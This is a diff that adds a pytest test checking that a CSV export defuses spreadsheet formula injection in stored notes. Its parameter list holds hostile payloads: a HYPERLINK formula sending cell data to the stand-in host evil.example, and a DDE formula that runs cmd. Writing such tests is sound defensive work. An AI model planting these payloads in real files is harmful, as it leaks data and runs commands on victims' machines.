@@ -131,6 +131,21 @@ def test_csv_reads_back_with_the_csv_module(store: Store) -> None:
     assert result.head_seq == seq and result.head_hash == digest
 
 
+@pytest.mark.parametrize("note", ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+1+cmd|' /C calc'!A0",
+                                  "-2+3", "@SUM(1)", "\t=1", "\r=1"])
+def test_csv_never_hands_a_formula_to_a_spreadsheet(store: Store, note: str) -> None:
+    ids = populate(store)
+    record_verdict(store=store, claim_id=ids["factual"], verdict="False", note=note,
+                   actor="alice", seen_version=2)
+    with store.read() as s:
+        stored = s.get(Claim, ids["factual"]).note  # notes are stored stripped
+    data, _ = run(store, "csv")
+    raw = [r for r in data.decode("utf-8").splitlines() if r.startswith(f"{ids['factual']},")]
+    assert raw and f",'{stored[:1]}" in raw[0].replace('"', "")  # the cell starts with '
+    rows, _ = read_csv(data.decode("utf-8"))
+    assert {int(r["claim_id"]): r for r in rows}[ids["factual"]]["note"] == stored  # read back
+
+
 def test_xlsx_reads_back_with_openpyxl(store: Store, tmp_path: Path) -> None:
     ids = populate(store)
     seq, digest = head(store)
